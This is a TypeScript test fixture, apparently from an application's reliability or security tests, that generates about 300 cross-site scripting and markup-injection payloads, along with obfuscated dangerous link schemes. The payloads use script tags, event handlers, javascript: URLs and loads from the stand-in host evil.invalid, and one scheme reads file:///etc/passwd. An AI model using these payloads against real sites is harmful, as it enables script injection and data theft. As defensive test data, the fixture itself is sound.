// Words that would run, or fetch from elsewhere, wherever some view or document took them for markup (RELIABILITY W3, W4, G18).
// Made by joining ways to run with ways to get out of where a text may stand; each short enough to be a name.

/** What a browser would do if it were markup: mark the page, or ask a host that is not ours. */
const vectors: readonly string[] = [
  '<script>__hit=1</script>',
  '<script src=//evil.invalid/a></script>',
  '<img src=x onerror=__hit=1>',
  '<img src=//evil.invalid/i>',
  '<svg onload=__hit=1>',
  '<svg><script>__hit=1</script></svg>',
  '<svg><a href=javascript:__hit=1><text y=9>t',
  '<svg><animate onbegin=__hit=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.__hit=1</script>">',
  '<iframe src=javascript:parent.__hit=1>',
  '<iframe src=//evil.invalid/f>',
  '<object data=//evil.invalid/o>',
  '<embed src=//evil.invalid/e>',
  '<link rel=stylesheet href=//evil.invalid/c>',
  '<style>@import"//evil.invalid/s"</style>',
  '<base href=//evil.invalid/>',
  '<meta http-equiv=refresh content="0;//evil.invalid/r">',
  '<form action=//evil.invalid/p><button autofocus>b',
  '<input autofocus onfocus=__hit=1>',
  '<details open ontoggle=__hit=1>',
  '<video src=x onerror=__hit=1>',
  '<audio src=//evil.invalid/u autoplay>',
  '<a href=javascript:__hit=1>l</a>',
  '<marquee onstart=__hit=1>m',
  '<body onload=__hit=1>',
  '<math><mtext><img src=x onerror=__hit=1>',
  '<template><img src=x onerror=__hit=1></template>',
  '<p style=background:url(//evil.invalid/b)>',
  '<x onclick=__hit=1 tabindex=0 autofocus>x',
  '<portal src=//evil.invalid/q>',
]

/** How a text gets out of the place that it stands in, or hides what it is. */
const disguises: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</title></textarea></style></script>${vector}`,
  (vector) => `-->]]>${vector}`,
  (vector) => `{{constructor}}\${${vector}}`,
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replace(/^<(\w+)/, (_, name: string) => `<${name.toUpperCase()}/`),
  (vector) => `<!-->${vector}<!--`,
  (vector) => `[x](<${vector}>) ${vector}`.slice(0, 115),
]

/** Every way to run in every disguise: 300, the same each time. */
export const payloads: readonly string[] = disguises.flatMap((disguise) => vectors.map((vector) => disguise(vector)))

const schemes = [
  'javascript:__hit=1',
  'data:text/html,<script>__hit=1</script>',
  'vbscript:__hit=1',
  'file:///etc/passwd',
  'blob:x',
] as const
const hidden: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => ` ${address}`,
  (address) => `\t${address}`,
  (address) => address.replace(':', '\n:'),
  (address) => address.replace(/^(..)/, '$1\t'),
  (address) => `\u0001${address}`,
  (address) => address.toUpperCase(),
  (address) => address.replace(':', '&colon;'),
  (address) => `https:${address}`.replace('https:', '\u00A0'),
]

/** Addresses that no link may have. */
export const addresses: readonly string[] = schemes.flatMap((scheme) => hidden.map((hide) => hide(scheme)))
